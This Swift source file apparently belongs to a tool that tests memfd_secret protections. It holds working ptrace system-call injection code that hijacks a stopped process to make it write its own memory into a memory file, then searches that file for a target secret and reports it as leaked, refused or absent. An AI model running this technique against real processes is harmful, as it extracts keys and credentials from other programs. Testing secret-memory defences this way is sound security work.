// SPDX-License-Identifier: Apache-2.0
import CLinux
import Glibc

/// System-call injection: the known way around memfd_secret(2) for whoever may ptrace. The kernel
/// refuses the tracer the page, but the victim itself may read it, so it is made to write it out.
struct InjectedVictim {
    private static let memfdCreateNumber: UInt64 = 319
    private static let writeNumber: UInt64 = 1
    private static let closeNumber: UInt64 = 3
    /// A stop for another signal than the step's is tried again this often.
    private static let stepsMax = 16

    let pid: pid_t
    private let saved: clinux_registers
    private let instruction: UInt64

    /// The victim is attached and stopped. Nil with the step that failed.
    init?(stopped pid: pid_t, failure: inout (String, Int32)) {
        var registers = clinux_registers()
        let read = clinux_get_registers(pid, &registers)
        guard read == 0 else {
            failure = ("PTRACE_GETREGS", -read)
            return nil
        }
        guard let found = Self.systemCallInstruction(in: pid) else {
            failure = ("search for a syscall instruction", ENOENT)
            return nil
        }
        self.pid = pid
        saved = registers
        instruction = found
    }

    /// Address of two bytes `0f 05` in executable memory, the vDSO's or the program's.
    private static func systemCallInstruction(in pid: pid_t) -> UInt64? {
        guard case .success(let mappings) = TargetProcess.mappings(of: pid) else { return nil }
        let code = mappings.filter { $0.executable && $0.readable && $0.path != "[vsyscall]" }
        for mapping in code {
            let count = Int(min(mapping.range.upperBound - mapping.range.lowerBound, 4 << 20))
            var bytes = [UInt8](repeating: 0, count: count)
            let got = bytes.withUnsafeMutableBytes {
                clinux_process_vm_readv(pid, mapping.range.lowerBound, $0.baseAddress, $0.count)
            }
            guard got > 1 else { continue }
            for offset in 0..<Int(got) - 1 where bytes[offset] == 0x0F && bytes[offset + 1] == 5 {
                return mapping.range.lowerBound + UInt64(offset)
            }
        }
        return nil
    }

    /// Runs one system call in the victim. Its result, or -errno.
    private func call(
        _ number: UInt64, _ first: UInt64, _ second: UInt64 = 0, _ third: UInt64 = 0
    ) -> Int64 {
        var registers = saved
        var request = clinux_system_call_registers(
            &registers, instruction, number, first, second, third)
        let set = clinux_set_registers(pid, &request)
        guard set == 0 else { return Int64(set) }
        for _ in 0..<Self.stepsMax {
            let stepped = clinux_ptrace_step(pid)
            guard stepped == 0 else { return Int64(stepped) }
            let status = clinux_wait_stop(pid)
            guard status >= 0, status & 0xFF == 0x7F else { return Int64(-ESRCH) }
            if (status >> 8) & 0xFF == SIGTRAP { break }
        }
        var after = clinux_registers()
        let read = clinux_get_registers(pid, &after)
        return read < 0 ? Int64(read) : clinux_system_call_result(&after)
    }

    /// Makes the victim create a memory file, write `ranges` to it, and hands `body` a descriptor
    /// of that file. Returns `body`'s result or the error number of the refused step.
    func export<Value>(
        _ ranges: [Range<UInt64>], _ body: (_ file: Int32, _ refusal: Int32) -> Value
    ) -> Result<Value, SystemError> {
        var registers = saved
        // Below the red zone (x86-64 ABI), so that the victim's own data stays as it is.
        let scratch = (clinux_stack_pointer(&registers) - 512) & ~7
        var before: UInt64 = 0
        guard clinux_ptrace_peek(pid, scratch, &before) == 0,
            clinux_ptrace_poke(pid, scratch, 0) == 0
        else { return .failure(SystemError(EIO)) }
        defer {
            _ = clinux_ptrace_poke(pid, scratch, before)
            _ = clinux_set_registers(pid, &registers)
        }
        let file = call(Self.memfdCreateNumber, scratch, 0)
        guard file >= 0 else { return .failure(SystemError(Int32(-file))) }
        defer { _ = call(Self.closeNumber, UInt64(file)) }
        var refusal: Int64 = 0
        var written: Int64 = 0
        for range in ranges {
            let result = call(
                Self.writeNumber, UInt64(file), range.lowerBound,
                range.upperBound - range.lowerBound)
            if result < 0 { refusal = result } else { written += result }
        }
        guard written > 0 else { return .failure(SystemError(Int32(-refusal))) }
        let copy = open("/proc/\(pid)/fd/\(file)", O_RDONLY | O_CLOEXEC)
        guard copy >= 0 else { return .failure(SystemError(errno)) }
        defer { close(copy) }
        return .success(body(copy, Int32(-refusal)))
    }
}

extension Attack {
    func ptraceInject() -> AttackReport {
        let attached = attach()
        guard attached == 0 else {
            let name = SystemError.name(of: attached)
            return refused(.ptraceInject, attached, "PTRACE_ATTACH: \(name)")
        }
        return injectWhileStopped(.ptraceInject)
    }

    /// Has the attached and stopped victim write out its memory, then detaches.
    func injectWhileStopped(_ vector: AttackVector) -> AttackReport {
        defer { clinux_ptrace_detach(pid) }
        let ranges: [Range<UInt64>]
        switch likelyRanges() {
        case .success(let found): ranges = found
        case .failure(let error):
            return refused(vector, error.number, "maps: \(error.name)")
        }
        var failure: (String, Int32) = ("", 0)
        guard let victim = InjectedVictim(stopped: pid, failure: &failure) else {
            return AttackReport(
                vector, .unavailable, errorNumber: failure.1, detail: failure.0)
        }
        let exported = victim.export(ranges) { file, refusal in
            (found: MemoryFile.occurrences(of: needle, in: file), refusal: refusal)
        }
        switch exported {
        case .failure(let error):
            return refused(vector, error.number, "injected call: \(error.name)")
        case .success(let seen) where seen.found > 0:
            return leaked(vector, "the victim wrote it to a file when told to")
        case .success(let seen):
            let name = SystemError.name(of: seen.refusal)
            return AttackReport(
                vector, .absent, errorNumber: seen.refusal,
                detail: "\(ranges.count) ranges written out, not in them; refused ranges: \(name)")
        }
    }
}
